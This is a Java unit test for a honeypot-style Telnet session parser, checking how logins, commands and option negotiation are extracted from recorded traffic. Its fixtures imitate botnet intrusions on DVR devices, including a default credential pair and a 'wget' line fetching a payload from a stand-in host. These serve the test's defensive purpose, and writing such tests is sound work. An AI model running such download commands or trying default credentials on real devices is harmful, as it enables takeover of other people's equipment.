package teiten.session.stream;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

import teiten.net.IpAddress;
import teiten.session.Door;
import teiten.session.Event;
import teiten.session.Event.Side;
import teiten.session.Visit;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;

/// What lines mean, told from the server's prompts.
class TelnetDialogueTest {
    private static final Instant AT = Instant.parse("2026-11-23T00:00:00Z");

    private final List<Event> events = new ArrayList<>();

    private TelnetDialogue open() {
        events.clear();
        Visit visit =
                Visit.open(
                        "t",
                        IpAddress.parse("192.0.2.1"),
                        1,
                        Door.TELNET,
                        IpAddress.parse("198.51.100.7"),
                        23,
                        "",
                        AT);
        return new TelnetDialogue(visit, AT, events::add);
    }

    /// `<` in front: the sensor says it; `>`: the visitor does.
    private List<String> hear(int step, String... talk) {
        TelnetDialogue dialogue = open();
        for (String one : talk) {
            byte[] bytes = one.substring(1).getBytes(StandardCharsets.ISO_8859_1);
            Side side = one.charAt(0) == '<' ? Side.SENSOR : Side.VISITOR;
            for (int i = 0; i < bytes.length; i += step) {
                dialogue.bytes(side, bytes, i, Math.min(bytes.length, i + step), AT);
            }
        }
        dialogue.closed("closed", AT);
        List<String> words = new ArrayList<>();
        for (Event event : events) {
            switch (event) {
                case Event.LoggedIn e ->
                        words.add("in " + e.user().value() + "/" + e.password().value());
                case Event.LoginTry e ->
                        words.add(
                                (e.refused() ? "no " : "? ")
                                        + e.user().value()
                                        + "/"
                                        + e.password().value());
                case Event.Command e -> words.add(e.line().value());
                default -> {}
            }
        }
        return words;
    }

    private void everyStep(List<String> expected, String... talk) {
        for (int step : new int[] {1, 2, 3, 7, 1000}) {
            assertThat(hear(step, talk)).as("in pieces of " + step).isEqualTo(expected);
        }
    }

    @Test
    void a_refused_and_an_accepted_login_and_two_commands() {
        everyStep(
                List.of("no root/admin", "in root/vizxv", "enable", "sh"),
                "<\u00ff\u00fd\u0001\r\nDVR login: ",
                ">root\r\n",
                "<root\r\nPassword: ",
                ">admin\r\n",
                "<\r\nLogin incorrect\r\nDVR login: ",
                ">root\r\0",
                "<Password: ",
                ">vizxv\r\0",
                "<\r\n\r\nBusyBox v1.1\r\n# ",
                ">enable\r\nsh\r\n",
                "<enable\r\nsh: not found\r\n# ");
    }

    @Test
    void a_bot_that_does_not_wait_is_understood_when_the_verdict_comes() {
        everyStep(
                List.of("in root/root", "enable", "system"),
                "<login: ",
                ">root\r\nroot\r\nenable\r\nsystem\r\n",
                "<Password: \r\n",
                "<$ ");
    }

    @Test
    void a_capture_of_one_side_gives_a_login_without_verdict_and_commands() {
        everyStep(
                List.of("? admin/1234", "wget http://192.0.2.9/x"),
                ">admin\r\n1234\r\nwget http://192.0.2.9/x\r\n");
    }

    @Test
    void an_open_shell_needs_no_login_and_escapes_hide_no_prompt() {
        everyStep(List.of("in /", "id"), "<\u001b[1mroot@dvr:~#\u001b[0m ", ">id\n");
    }

    @Test
    void corrections_are_made_and_a_last_line_without_end_counts() {
        everyStep(
                List.of("in ab/c", "ls", "exit"),
                "<login: ",
                ">ax\u007fb\r\n",
                "<Password: ",
                ">zz\u0015c\r\n",
                "<> ",
                ">lx\bs\r\nexit");
    }

    @Test
    void options_are_taken_out_and_told() {
        hear(
                1,
                ">\u00ff\u00fb\u001f\u00ff\u00fa\u001f\u0000P\u0000\u0018\u00ff\u00f0a\u00ff\u00ffb",
                "<\u00ff\u00fd\u0001");

        List<String> words = new ArrayList<>();
        for (Event event : events) {
            if (event instanceof Event.Negotiated e) {
                words.add(e.side().label() + ": " + e.words().value());
            }
        }
        assertThat(words)
                .containsExactly(
                        "visitor: WILL NAWS", "visitor: SB NAWS 0 80 0 24", "sensor: DO ECHO");
        StringBuilder input = new StringBuilder();
        for (Event event : events) {
            if (event instanceof Event.Input e) {
                input.append(new String(e.payload().bytes(), StandardCharsets.ISO_8859_1));
            }
        }
        assertThat(input.toString()).isEqualTo("a\u00ffb");
    }
}
